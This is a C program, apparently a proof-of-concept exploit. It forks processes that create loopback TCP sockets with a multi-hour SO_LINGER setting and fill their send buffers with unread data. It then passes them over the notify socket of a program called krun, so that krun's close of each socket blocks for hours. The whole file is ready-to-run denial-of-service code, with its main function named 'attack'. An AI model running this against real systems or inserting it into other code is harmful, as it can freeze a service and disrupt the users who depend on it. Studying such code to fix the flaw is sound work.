/* Sends TCP sockets to a datagram socket of krun's (argument 1, else NOTIFY_SOCKET), whose close waits for hours: SO_LINGER, bytes that
 * the other end does not read, and that end waits in the queue behind. Argument 2: seconds until the end. */
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void pass(int to, int fd) {
    char text[] = "it comes with a socket", space[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec v = {text, sizeof text - 1};
    struct msghdr m = {0, 0, &v, 1, space, sizeof space, 0};
    struct cmsghdr *h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &fd, sizeof(int));
    sendmsg(to, &m, 0);
    close(fd); /* ours is the last but krun's, if krun has not read it yet: else it is we who wait */
}

static void attack(const char *name) {
    static char zeros[1 << 16];
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    struct linger hours = {1, 32000};
    socklen_t size = sizeof in;
    int door = socket(AF_INET, SOCK_STREAM, 0), one = socket(AF_INET, SOCK_STREAM, 0);
    int to = socket(AF_UNIX, SOCK_DGRAM, 0);
    bind(door, (void *)&in, sizeof in);
    listen(door, 1);
    getsockname(door, (void *)&in, &size);
    if (connect(one, (void *)&in, sizeof in) < 0)
        perror("connect"), exit(1);
    int other = accept(door, 0, 0);
    close(door);
    setsockopt(one, SOL_SOCKET, SO_LINGER, &hours, sizeof hours);
    fcntl(one, F_SETFL, O_NONBLOCK);
    while (write(one, zeros, sizeof zeros) > 0)
        ;
    strcpy(un.sun_path, name);
    while (connect(to, (void *)&un, sizeof un) < 0)
        usleep(1000);
    for (int i = 0; i < 20; i++)
        send(to, "chatter", 7, 0);
    pass(to, one);
    pass(to, other);
    exit(0);
}

int main(int argc, char **argv) {
    for (int i = 0; i < 8; i++)
        if (fork() == 0)
            attack(argc > 1 ? argv[1] : getenv("NOTIFY_SOCKET"));
    sleep(argc > 2 ? atoi(argv[2]) : 2);
    puts("over");
    return 0;
}
